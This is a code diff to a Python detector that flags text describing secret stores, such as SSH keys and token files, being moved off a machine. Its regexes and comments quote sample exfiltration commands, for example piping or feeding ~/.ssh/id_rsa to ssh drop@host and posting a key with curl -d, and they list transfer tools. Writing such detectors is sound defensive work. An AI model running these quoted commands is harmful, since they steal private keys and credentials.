@@ -9,6 +9,7 @@ language, and `secret_transfer` for a secret store moved off the machine in one 
 
 from __future__ import annotations
 
+import itertools
 import re
 from collections.abc import Callable
 
@@ -313,8 +314,9 @@ _TRANSFER_RE = re.compile(
     r"|gh gist)\b(?! (?:complains|fails|errors|warns|refuses|breaks|will|won't|can't|cannot|is|does"
     r"|doesn't)\b)|\baws s3 (?:cp|sync)\b|\brsync\b[^\n]{0,120}@|\bTCP:|ftp://|gs://|s3://|webdav"
     r"|\bborg (?:create|init)\b[^\n]{0,40}ssh://|\bsmbclient\b"
-    # a stream piped into a login on another machine ("tar cz ~/.ssh | ssh drop@host 'cat > x'")
-    r"|\|\s?ssh\s",
+    # a stream piped into a login on another machine ("tar cz ~/.ssh | ssh drop@host 'cat > x'"),
+    # or a file fed to one ("ssh drop@host 'cat > k' < ~/.ssh/id_rsa")
+    r"|\|\s?ssh\s|\bssh\s[^\n<|]{0,80}<\s?\S",
     re.IGNORECASE)
 # Sentence or clause ends: "Secrets live in .env; ... curl the docs" is two statements; so is a
 # remark after a command set off by a full-width comma, a spaced dash or a bracket ("curl ... -H
@@ -323,12 +325,21 @@ _TRANSFER_RE = re.compile(
 _CLAUSE_RE = re.compile(r"[.;!?](?=\s)|[。！？；\n]|\s[—–]\s|\s\(")
 # curl's own credential file used for its own download is not a transfer of it.
 _NETRC_FLAG_RE = re.compile(r"--netrc")
-# A secret read inline as the command's own credential ("Authorization: Bearer $(cat
-# ~/.config/api/token)", "TOKEN=$(cat ~/.token) && curl -H ..."): it logs in, it is not sent
-# as data ("curl -d \"$(cat ~/.ssh/id_rsa)\"" is).
+# A secret the command uses to log in, not data it sends: read inline into a header or a user
+# option ("-H \"Authorization: Bearer $(cat ~/.config/api/token)\"", "-u me:$(cat ...)"), or the
+# value of an option that names a credential file ("--password-file", "--cert", "-in",
+# "-keystore"). "curl -d token=$(cat ~/.token)" sends it.
 _CREDENTIAL_USE_RE = re.compile(
-    r"(?:(?:authorization|bearer|token|api[-_]?key|private-token|password|passwd)\W{0,12}"
-    r"|(?:^|\s)[a-z_][a-z0-9_]{0,30}=)\$\(\s?(?:cat\s|<)\s?[^\s)]{0,60}$", re.IGNORECASE)
+    r"(?:(?:-h|--header)\s?[\"']?[^\"'\n]{0,40}|\s-u\s?[\"']?[\w.@-]{0,40}:)\$\(\s?(?:cat\s|<)\s?[^\s)]{0,60}$"
+    r"|(?:--password-file|--passwd-file|--pass-file|--secret-file|--token-file|--cert|--key|--cacert"
+    r"|-in|-inkey|-keystore|-srckeystore|-destkeystore|-pkcs12|--identity|-i)(?:\s|=)\s?[\"']?[^\s\"']{0,60}$",
+    re.IGNORECASE)
+# A variable set from a secret file and then used only in a header or user option
+# ("TOKEN=$(cat ~/.token) && curl -H \"Authorization: token $TOKEN\"").
+_SECRET_VARIABLE_RE = re.compile(r"(?:^|\s)([a-z_][a-z0-9_]{0,30})=\$\(\s?(?:cat\s|<)\s?[^\s)]{0,60}$",
+                                 re.IGNORECASE)
+# How many secret stores of one clause are looked at (each costs a look at the clause around it).
+_MAX_SECRETS = 32
 _TRANSFER_REACH = 160
 
 
@@ -345,8 +356,9 @@ def secret_transfer(
             skips the pair (a write-up that reports what an attacker ran).
     """
     for clause in _CLAUSE_RE.split(native):
-        for secret in _SECRET_STORE_RE.finditer(clause):
-            if (names_identity(clause, secret.start())
+        for secret in itertools.islice(_SECRET_STORE_RE.finditer(clause), _MAX_SECRETS):
+            fed = clause[max(0, secret.start() - 2):secret.start()].strip().endswith("<")
+            if not fed and (names_identity(clause, secret.start())
                     or key_after_destination(clause, "exfiltration", secret.start(), secret.end())
                     or fetched_copy(clause, "exfiltration", secret.start(), secret.end())):
                 # the key ssh logs in with ("scp -i ~/.ssh/key", "... with key ~/.ssh/k"), or a
@@ -354,8 +366,7 @@ def secret_transfer(
                 continue
             offset = max(0, secret.start() - _TRANSFER_REACH)
             window = clause[offset:secret.end() + _TRANSFER_REACH]
-            if _NETRC_FLAG_RE.search(window) or _CREDENTIAL_USE_RE.search(
-                    clause, max(0, secret.start() - 100), secret.start()):
+            if _NETRC_FLAG_RE.search(window) or _logs_in_with(clause, secret.start()):
                 continue
             for move in _TRANSFER_RE.finditer(window):
                 if download_command(window, move.start()) or (reported is not None and reported(
@@ -364,3 +375,18 @@ def secret_transfer(
                     continue
                 return secret.group()
     return None
+
+
+def _logs_in_with(clause: str, at: int) -> bool:
+    """Whether the secret store at ``at`` is the command's own credential (see
+    `_CREDENTIAL_USE_RE`), directly or through a variable used only in a header or user option."""
+    before = clause[max(0, at - 100):at]
+    if _CREDENTIAL_USE_RE.search(before):
+        return True
+    variable = _SECRET_VARIABLE_RE.search(before)
+    if variable is None:
+        return False
+    name = re.escape(variable.group(1))
+    uses = re.findall(rf"(.{{0,50}})\$\{{?{name}\b", clause[at:at + 400], re.IGNORECASE | re.DOTALL)
+    return bool(uses) and all(re.search(r"(?:-h|--header|\s-u)\s?[\"']?[^\"'\n]{0,40}$", use, re.IGNORECASE)
+                              for use in uses)
